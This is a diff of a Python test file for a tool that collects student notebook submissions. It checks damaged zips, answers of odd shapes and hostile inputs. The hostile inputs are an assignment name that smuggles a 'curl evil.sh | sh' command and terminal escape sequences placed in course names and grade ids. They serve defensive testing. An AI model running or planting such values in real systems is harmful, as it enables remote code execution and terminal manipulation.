@@ -197,8 +197,8 @@ FAULTS = {
     was_cut_off: "the zip is damaged",
     has_a_damaged_middle: "the zip is damaged",
     is_packed_with_lzma_and_damaged: "the zip is damaged",
-    has_a_course_that_steers_the_terminal: "the course “x?[2K?  zz999: collected, receipt AAAA-BBBB!!!!!!!!!!!!!!…”, not to",
-    has_an_assignment_that_is_a_command: "it is a hand-in of “01-claims; curl evil.sh | sh #”. Collect it under that name",
+    has_a_course_that_steers_the_terminal: "“x?[2K?  zz999: collected, receipt AAAA-BBBB!!!!!!!!!!!!!!…”, not to",
+    has_an_assignment_that_is_a_command: "of “01-claims; curl evil.sh | sh #”. Collect it under that name",
     is_a_picture_called_zip: "the zip is damaged",
     is_empty: "the zip is damaged",
     is_locked_with_a_password: "locked with a password",
@@ -250,7 +250,7 @@ def test_whatever_goes_wrong_with_one_the_others_are_collected(
 
     monkeypatch.setattr(module, "read_submission", unread)
     monkeypatch.setattr(Shelf, "put", unput)
-    outcomes = {outcome.path.name.split("-")[2]: outcome for outcome in collect(assignment, [make_zip.incoming], course)}
+    outcomes = {each.path.name.split("-")[2]: each for each in collect(assignment, [make_zip.incoming], course)}
     assert outcomes["ef789"].done == "collected"
     assert outcomes["ab123"].warnings == ("what is in it makes no sense (MemoryError). Ask for a new hand-in.",)
     assert outcomes["cd456"].warnings[0].startswith("it could not be put in its place (KeyError: ")
@@ -271,7 +271,8 @@ def test_an_id_with_blanks_around_it_is_the_same_student(
 
 def test_grade_ids_cannot_steer_the_terminal(assignment, answered: Path, course: Path) -> None:
     notebook = json.loads((answered / NOTEBOOK).read_text())
-    evil = {"cell_type": "code", "source": "", "outputs": [], "metadata": {"nbgrader": {"grade_id": "\x1b[2K" + "x" * 500}}}
+    marked = {"nbgrader": {"grade_id": "\x1b[2K" + "x" * 500}}
+    evil = {"cell_type": "code", "source": "", "outputs": [], "metadata": marked}
     notebook["cells"] += [evil, evil]
     (answered / NOTEBOOK).write_text(json.dumps(notebook))
     (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
@@ -319,6 +320,24 @@ def test_copied_and_deleted_cells_are_collected_and_pointed_out(assignment, answ
         "cells are missing: test-what-latest-says",
         "cells are there twice: what-latest-says",
     ]
+
+
+@pytest.mark.parametrize("saved_at", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "", None, [], 7])
+@pytest.mark.parametrize("answer", [None, 3, [[]], {"empty-seats": []}, {"empty-seats": {}}])
+def test_answers_of_any_shape_are_collected_as_they_came(
+    assignment, answered: Path, course: Path, answer: object, saved_at: object
+) -> None:
+    document = json.loads((answered / ANSWERS).read_text())
+    document |= {"answers": {"claims-kinds": answer}, "saved_at": saved_at}
+    (answered / ANSWERS).write_text(json.dumps(document))
+    notebook = json.loads((answered / NOTEBOOK).read_text())
+    data = {"application/vnd.debatekit.answers+json": document}
+    notebook["cells"][4]["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": data}]
+    (answered / NOTEBOOK).write_text(json.dumps(notebook))
+    (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
+    assert outcome.done == "collected"
+    kept = json.loads((course / "grading/submitted/ab123" / ASSIGNMENT / ANSWERS).read_text())
+    assert kept["answers"]["claims-kinds"] == answer
 
 
 def test_a_damaged_answers_file_beside_a_bare_notebook_is_left_as_it_came(
